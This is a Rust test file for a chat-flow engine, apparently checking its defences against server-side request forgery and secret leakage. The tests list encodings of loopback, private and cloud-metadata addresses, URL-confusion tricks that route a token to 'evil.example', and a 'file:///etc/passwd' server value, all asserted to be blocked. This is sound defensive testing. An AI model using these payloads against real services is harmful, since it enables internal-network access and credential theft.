//! What a flow can reach: no address that the host did not allow, and no secret beyond the origin that it was granted for.

use std::io::Write;

use sayflow::{Customer, Effect, Engine, Event, HttpClient, Input, Outcome, Program, Session, Source, check};

use crate::cost::alone;
use crate::play::{Chat, Shop, calls, engine, sent, texts};
use crate::server::Server;

const SECRET: &str = "s3cret-T0ken";
const GRANTED: &str = "https://api.shop.example";

#[test]
fn no_form_of_an_inner_address_is_dialled() {
    let _alone = alone();
    let server = Server::new();
    let port = server.port();
    let client = HttpClient::new();
    for host in [
        "127.0.0.1",
        "127.1",
        "127.0.1",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "017700000001",
        "0177.0.0.1",
        "127.0.0.1.",
        "127.255.255.254",
        "0.0.0.0",
        "0",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "sub.localhost",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[fe80::1]",
        "[fc00::1]",
        "169.254.169.254",
        "[::ffff:169.254.169.254]",
        "[fd00:ec2::254]",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "198.18.0.1",
        "224.0.0.1",
        "255.255.255.255",
        "192.0.0.192",
    ] {
        let flow = format!(
            "api a: text {{\n  get \"http://{host}:{port}/\"\n  timeout 1s\n}}\non start {{\n  text \"<<a>>\" else \"No.\"\n}}\n"
        );
        let (program, found) = check([Source::new("a.flow", flow)]);
        let Some(program) = program else {
            assert!(
                found
                    .iter()
                    .any(|found| found.code().as_str() == "check::bad_url"),
                "{host}: {found:?}"
            );
            continue;
        };
        let mut chat = Chat::on(Engine::new(program));
        let turn = chat.turn(&Input::start(), &client).unwrap();
        let outcome = calls(&turn);
        // What no resolver knows is nowhere; everything else was refused.
        assert!(
            outcome == ["blocked"] || outcome == ["unreachable"],
            "{host}: {outcome:?}"
        );
    }
    assert!(server.is_untouched());
}

#[test]
fn a_redirect_leads_nowhere() {
    let _alone = alone();
    let (inner, outer) = (Server::new(), Server::new());
    let origin = outer.origin();
    let flow = format!(
        "api a: text {{\n  get \"{origin}/\"\n  header \"X-Token\" = secret TOKEN\n}}\non start {{\n  text \"<<a>>\" else \"No.\"\n}}\n"
    );
    let engine = engine(&flow).with_secret("TOKEN", SECRET, [origin]);
    let client = HttpClient::new().with_allowed_host("127.0.0.1");
    let turn = std::thread::scope(|scope| {
        scope.spawn(|| {
            let head = "HTTP/1.1 307 Elsewhere\r\nContent-Length: 0\r\nLocation:";
            write!(outer.accept(), "{head} {}/{SECRET}\r\n\r\n", inner.origin()).unwrap();
        });
        Chat::on(engine).turn(&Input::start(), &client).unwrap()
    });
    assert!(inner.is_untouched());
    let [Event::Call(report)] = &turn.events[..] else {
        panic!("{turn:?}")
    };
    assert_eq!(report.outcome, Outcome::Status);
    assert!(
        !format!("{report:?}").contains(SECRET),
        "what the redirect echoes is masked"
    );
}

/// Scheme, host and port, as a client takes them.
fn origin(url: &str) -> String {
    let (scheme, rest) = url.split_once("://").unwrap();
    let authority = rest
        .split(['/', '?', '#', '\\'])
        .next()
        .unwrap()
        .to_ascii_lowercase();
    format!(
        "{scheme}://{}",
        authority.strip_suffix(":443").unwrap_or(&authority)
    )
}

/// A flow that sends the secret somewhere else, and what its call ends in; `None` where it does not even load.
fn outcome(request: &str, other: &str) -> Option<Outcome> {
    let flow = format!(
        "attribute x: text = \"evil.example\"\nattribute path: text = \"@evil.example/\"\n{other}api a: text {{\n{request}}}\non start {{\n  text \"<<a>>\" else \"No.\"\n}}\n"
    );
    let program = Program::load([Source::new("a.flow", flow)]).ok()?;
    let engine = Engine::new(program).with_secret("TOKEN", SECRET, [GRANTED]);
    let (mut session, mut customer, input) = (Session::new(), Customer::new(7), Input::start());
    let mut steps = engine.steps(&mut session, &mut customer, &input).unwrap();
    loop {
        match steps.advance().unwrap() {
            Effect::Calls(requests) => {
                let request = &requests[0];
                let shown = format!("{request:?} {}", request.url);
                assert!(!shown.contains(SECRET), "{shown}");
                let is_granted = origin(request.url.expose()) == GRANTED;
                assert!(is_granted || !sent(request).contains(SECRET), "{}", sent(request));
                let echo = Shop(format!(
                    "{{\"success\": \"{SECRET}\", \"message\": \"{SECRET}\"}}"
                ));
                steps.answer(sayflow::Client::call(&echo, &requests)).unwrap();
            }
            Effect::Event(Event::Call(report)) => {
                assert!(!format!("{report:?} {}", serde_json::to_string(&report).unwrap()).contains(SECRET));
                return Some(report.outcome);
            }
            Effect::Wait(_) => panic!("no call"),
            _ => {}
        }
    }
}

#[test]
fn a_secret_goes_to_the_origin_that_it_was_granted_for_and_nowhere_else() {
    let _alone = alone();
    let token = "  header \"X-Token\" = secret TOKEN\n";
    let get = |url: &str, rest: &str| outcome(&format!("  get \"{url}\"\n{rest}"), "");
    // As it was granted: header, param and field. The reply above is against the contract.
    assert_eq!(get(GRANTED, token), Some(Outcome::Contract));
    assert_eq!(
        get("https://API.shop.example:443/a", token),
        Some(Outcome::Contract)
    );
    assert_eq!(
        get(GRANTED, "  param \"key\" = secret TOKEN\n"),
        Some(Outcome::Contract)
    );
    let field = "  post \"https://api.shop.example/\"\n  field \"key\" = secret TOKEN\n";
    assert_eq!(outcome(field, ""), Some(Outcome::Contract));
    for url in [
        "https://evil.example",
        "http://api.shop.example",
        "https://api.shop.example:8443",
        "https://api.shop.example.evil.example",
        "https://evil.example/https://api.shop.example",
        "https://evil.example?https://api.shop.example/",
        "https://evil.example#@api.shop.example/",
        "https://evil-api.shop.example",
        "https://api.shop.example.",
        "https://{{x}}/",
        "https://api.shop.example{{path}}",
        "https://api.shop.example@evil.example/",
        "https://api.shop.example\\\\@evil.example/",
        "https://api.shop.example%2f@evil.example/",
        "//evil.example/",
    ] {
        for how in [
            token,
            "  param \"key\" = secret TOKEN\n",
            "  header \"Cookie\" = secret TOKEN\n",
        ] {
            let outcome = get(url, how);
            let stays = url == "https://api.shop.example{{path}}";
            assert!(
                outcome.is_none_or(|outcome| outcome == Outcome::Blocked || stays),
                "{url}: {outcome:?}"
            );
        }
        let post = format!("  post \"{url}\"\n  field \"key\" = secret TOKEN\n");
        assert!(
            outcome(&post, "").is_none_or(|outcome| outcome == Outcome::Blocked || url.ends_with("{{path}}")),
            "{url}"
        );
    }
    let server = "server shop \"https://evil.example\" {\n  header \"X-Token\" = secret TOKEN\n}\n";
    assert_eq!(outcome("  get shop \"/\"\n", server), Some(Outcome::Blocked));
    assert_eq!(
        outcome(
            &format!(
                "  get \"https://evil.example/{{{{x}}}}\"\n{}",
                token.replace("TOKEN", "OTHER")
            ),
            ""
        ),
        Some(Outcome::Blocked)
    );
}

#[test]
fn no_line_of_a_flow_shows_a_secret() {
    let _alone = alone();
    let flow = |line: &str| {
        format!(
            "attribute x: text\naction act {{\n  k: text\n}}\non start {{\n  {line}\n  text \"{{{{x}}}}\"\n}}\n"
        )
    };
    for line in [
        "text secret TOKEN",
        "text \"{{TOKEN}}\"",
        "text \"{{secret TOKEN}}\"",
        "set x = secret TOKEN",
        "set x = TOKEN",
        "do act {\n    k = secret TOKEN\n  }",
        "if secret TOKEN == \"a\" {\n    text \"a\"\n  }",
        "handover secret TOKEN",
        "image \"https://evil.example/{{TOKEN}}\"",
    ] {
        let (program, _) = check([Source::new("a.flow", flow(line))]);
        assert!(program.is_none(), "{line}");
    }
    let engine = engine(&flow("set x = \"a\"")).with_secret("TOKEN", SECRET, [GRANTED]);
    assert!(!format!("{engine:?}").contains(SECRET));
}

#[test]
fn nothing_is_done_that_the_flow_does_not_say_and_the_host_does_not_allow() {
    let _alone = alone();
    let (program, _) = check([Source::new(
        "a.flow",
        "on start {\n  do delete_everything {\n  }\n}\n",
    )]);
    assert!(
        program.is_none(),
        "an action is declared, and the host is told of it as data"
    );
    let flow =
        "api a: text {\n  get \"https://a.example/\"\n}\non start {\n  text \"<<a>>\" else \"No.\"\n}\n";
    let shop = Shop("{\"success\": true, \"data\": \"x\"}".to_owned());
    for engine in [
        engine(flow).with_calls_enabled(false),
        engine(flow).with_connected_channels([3]),
        engine(flow).with_server("https://a.example", "file:///etc/passwd"),
        engine(flow).with_server("https://a.example", "https://user@a.example"),
    ] {
        let turn = Chat::on(engine).turn(&Input::start(), &shop).unwrap();
        assert_eq!(
            (calls(&turn), texts(&turn)),
            (vec!["blocked".to_owned()], vec!["No."])
        );
    }
}
